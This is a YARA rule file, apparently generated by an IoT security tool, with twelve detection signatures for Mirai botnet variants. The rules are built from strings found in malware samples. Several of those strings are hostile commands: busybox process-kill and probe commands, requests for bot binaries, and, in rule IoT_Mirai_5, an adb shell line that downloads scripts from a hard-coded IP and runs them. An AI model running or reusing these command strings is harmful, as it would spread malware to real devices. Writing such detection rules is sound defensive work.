// SPDX-License-Identifier: GPL-2.0-or-later
// Mirai: rules learnt from the training corpus by signatures/tools/learn-rules.py
// (`iotguard db learn`), reviewed by hand. Regenerate, do not edit.

rule IoT_Mirai_1 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v1"
    severity = "high"
    description = "Mirai malware (16 strings learnt from samples, variant v1): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 7 of 16 strings required, CPUs: 386-32-le, 68K-32-be, ARM-32-le, MIPS-32-be, MIPS-32-le, PPC-32-be, SH-32-le, SPARC-32-be, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $x1 = "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8" xor(0x01-0xff)
    $x2 = "Content-Type: application/x-www-form-urlencoded" xor(0x01-0xff)
    $x3 = "Accept-Language: en-US,en;q=0.8" xor(0x01-0xff)
    $x4 = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 Safari/601.7.7" xor(0x01-0xff)
    $x5 = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36" xor(0x01-0xff)
    $x6 = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36" xor(0x01-0xff)
    $x7 = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36" xor(0x01-0xff)
    $x8 = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36" xor(0x01-0xff)
    $x9 = "server: cloudflare-nginx" xor(0x01-0xff)
    $x10 = "https://youtu.be/dQw4w9WgXcQ" xor(0x01-0xff)
    $x11 = "Connection: keep-alive" xor(0x01-0xff)
    $x12 = "MIRAI: applet not found" xor(0x01-0xff)
    $x13 = "TSource Engine Query" xor(0x01-0xff)
    $x14 = "/bin/busybox kill -9 " xor(0x01-0xff)
    $x15 = "transfer-encoding:" xor(0x01-0xff)
    $x16 = "server: dosarrest" xor(0x01-0xff)
  condition:
    uint32(0) == 0x464c457f and filesize < 6955904 and 7 of them
}

rule IoT_Mirai_2 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v2"
    severity = "high"
    description = "Mirai malware (12 strings learnt from samples, variant v2): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 2 of 12 strings required, CPUs: 386-32-le, 68K-32-be, ARM-32-le, MIPS-32-be, MIPS-32-le, PPC-32-be, SH-32-le, SPARC-32-be, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $x1 = "/proc/net/tcp" xor(0x01-0xff)
    $x2 = "/dev/misc/watchdog" xor(0x01-0xff)
    $x3 = "TSource Engine Query" xor(0x01-0xff)
    $x4 = "/dev/watchdog" xor(0x01-0xff)
    $x5 = "/etc/resolv.conf" xor(0x01-0xff)
    $x6 = "/bin/busybox kill -9" xor(0x01-0xff)
    $x7 = "/bin/busybox ps" xor(0x01-0xff)
    $x8 = "/proc/net/route" xor(0x01-0xff)
    $x9 = "nameserver " xor(0x01-0xff)
    $x10 = "1gba4cdom53nhp12ei0kfj" xor(0x01-0xff)
    $x11 = "/dev/FTWDT101_watchdog" xor(0x01-0xff)
    $x12 = "dvrHelper" xor(0x01-0xff)
  condition:
    uint32(0) == 0x464c457f and filesize < 6955904 and 2 of them
}

rule IoT_Mirai_3 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v3"
    severity = "high"
    description = "Mirai malware (4 strings learnt from samples, variant v3): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 2 of 4 strings required, CPUs: 386-32-le, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "Unknown value `%s` for datatype bool!"
    $s2 = "Usage: %s <string | ip | uint32 | uint16 | uint8 | bool> <data>"
    $s3 = "XOR'ing %d bytes of data..."
    $s4 = "Unknown data type `%s`!"
  condition:
    uint32(0) == 0x464c457f and filesize < 4194304 and 2 of them
}

rule IoT_Mirai_4 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v4"
    severity = "high"
    description = "Mirai malware (16 strings learnt from samples, variant v4): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 3 of 16 strings required, CPUs: 386-32-le, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "socket not open! conn->fd: %d, fd: %d, events: %08x, state: %08x"
    $s2 = "Failed to initialize server. Aborting"
    $s3 = "Failed to load from bins folder!"
    $s4 = "tftp: applet not found"
    $s5 = "wget: applet not found"
    $s6 = "/bin/busybox echo -e '%s%s' > %s/.nippon; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon"
    $s7 = "/bin/busybox echo -e '%s/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon"
    $s8 = "Failed to allocate establisted_connections array"
    $s9 = "Failed to initialize epoll context. Error code %d"
    $s10 = "rm %s/.t; rm %s/.sh; rm %s/.human"
    $s11 = "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI"
    $s12 = "/bin/busybox ps; /bin/busybox ECCHI"
    $s13 = "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI"
    $s14 = "Failed to load bins/dlr.* as dropper"
    $s15 = "Failed to parse telnet info: \"%s\" Format -> ip:port user:pass arch"
    $s16 = "Failed to open and bind socket"
  condition:
    uint32(0) == 0x464c457f and filesize < 6581728 and 3 of them
}

rule IoT_Mirai_5 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v5"
    severity = "high"
    description = "Mirai malware (12 strings learnt from samples, variant v5): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 5 of 12 strings required, CPUs: 386-32-le, ARM-32-le, MIPS-32-be, MIPS-32-le, PPC-32-be, SH-32-le, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $x1 = "Connection: keep-alive" xor(0x01-0xff)
    $x2 = "4.38 Safari/537.36" xor(0x01-0xff)
    $x3 = "/data/local/tmp/" xor(0x01-0xff)
    $x4 = "/proc/self/exe" xor(0x01-0xff)
    $x5 = "/proc/net/tcp" xor(0x01-0xff)
    $x6 = "User-Agent: " xor(0x01-0xff)
    $s7 = "shell:cd /data/local/tmp; busybox wget http://51.195.166.132/wget -O -> wwww; sh wwww; curl -O http://51.195.166.132/curl; sh cu"
    $s8 = "host::features=cmd,shell_v2"
    $s9 = "9xsspnvgc8aj5pi7m28p"
    $s10 = "objectClass0"
    $s11 = "ST:ssdp:all"
    $s12 = "\t_services"
  condition:
    uint32(0) == 0x464c457f and filesize < 4194304 and 5 of them
}

rule IoT_Mirai_6 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v6"
    severity = "high"
    description = "Mirai malware (7 strings learnt from samples, variant v6): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 3 of 7 strings required, CPUs: 386-32-le, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "You should no more be able to run \"%s\" inside GDB"
    $s2 = "[*] Current header values:"
    $s3 = "[*] Patched header values:"
    $s4 = ".: Elf corrupt :."
    $s5 = "\te_shstrndx:%d"
    $s6 = "\te_shnum:%d"
    $s7 = "\te_shoff:%d"
  condition:
    uint32(0) == 0x464c457f and filesize < 4194304 and 3 of them
}

rule IoT_Mirai_7 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v7"
    severity = "high"
    description = "Mirai malware (1 strings learnt from samples, variant v7): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 1 of 1 strings required, CPUs: 386-32-le, 68K-32-be, ARM-32-le, MIPS-32-be, MIPS-32-le, PPC-32-be, SH-32-le, SPARC-32-be"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "User-Agent: APEP-ECHO(Loader)"
  condition:
    uint32(0) == 0x464c457f and filesize < 4194304 and any of them
}

rule IoT_Mirai_8 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v8"
    severity = "high"
    description = "Mirai malware (16 strings learnt from samples, variant v8): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 2 of 16 strings required, CPUs: 386-32-le, 68K-32-be, ARM-32-le, MIPS-32-be, MIPS-32-le, PPC-32-be, SH-32-le, SPARC-32-be, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "/dev/misc/watchdog"
    $s2 = "abcdefghijklmnopqrstuvw012345678"
    $s3 = "[main] Attempting to connect to CNC"
    $s4 = "[main] Failed to call socket(). Errno = %d"
    $s5 = "[main] Received content: %s"
    $s6 = "Enter the killer process"
    $s7 = "Send bot flags"
    $s8 = "QWRGPTKQMP"
    $s9 = "CFOKLKQVPCVMP"
    $s10 = "cFOKLKQVPCVMP"
    $s11 = "FPGCO@MZ"
    $s12 = "HWCLVGAJ"
    $s13 = "QOACFOKL"
    $s14 = "RCQQUMPF"
    $s15 = "CFOKLNTHJ"
    $s16 = "xOStDMqkr"
  condition:
    uint32(0) == 0x464c457f and filesize < 6955904 and 2 of them
}

rule IoT_Mirai_9 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v9"
    severity = "high"
    description = "Mirai malware (2 strings learnt from samples, variant v9): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 2 of 2 strings required, CPUs: 386-32-le, X86_64-64-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "GET /bins/mirai.x86 HTTP/1.0"
    $s2 = "dvrHelper"
  condition:
    uint32(0) == 0x464c457f and filesize < 6955904 and 2 of them
}

rule IoT_Mirai_10 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v10"
    severity = "high"
    description = "Mirai malware (2 strings learnt from samples, variant v10): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 2 of 2 strings required, CPUs: 386-32-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "GET /pein.x86 HTTP/1.0"
    $s2 = "bigbotPein"
  condition:
    uint32(0) == 0x464c457f and filesize < 4194304 and 2 of them
}

rule IoT_Mirai_11 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v11"
    severity = "high"
    description = "Mirai malware (2 strings learnt from samples, variant v11): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 2 of 2 strings required, CPUs: ARM-32-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "GET /bins/mirai.arm7 HTTP/1.0"
    $s2 = "dvrHelper"
  condition:
    uint32(0) == 0x464c457f and filesize < 4194304 and 2 of them
}

rule IoT_Mirai_12 : elf learned
{
  meta:
    family = "Mirai"
    variant = "v12"
    severity = "high"
    description = "Mirai malware (2 strings learnt from samples, variant v12): remove the file, find how it arrived (default passwords, exposed telnet/SSH) and change the device's credentials"
    reference = "https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis"
    generated_by = "iotguard db learn"
    generated_from = "813 samples of Mirai, 2 of 2 strings required, CPUs: MIPS-32-le"
    date = "2026-12-04"
    sample_1 = "0039fc5d5ea99f62ba354416cf5046a482fd5568c4fa74cd6356e955ec37ab76"
    sample_2 = "004a70976dc1dbf5cdefdf10d6ca8c1f4b22c2403ed2c2e4a8d543f964e017d9"
    sample_3 = "009ed622bf936a036828fab19ceb69d78264ab51507396a3809bbe947ddd9ddf"
  strings:
    $s1 = "GET /bins/mirai.mpsl HTTP/1.0"
    $s2 = "dvrHelper"
  condition:
    uint32(0) == 0x464c457f and filesize < 4194304 and 2 of them
}
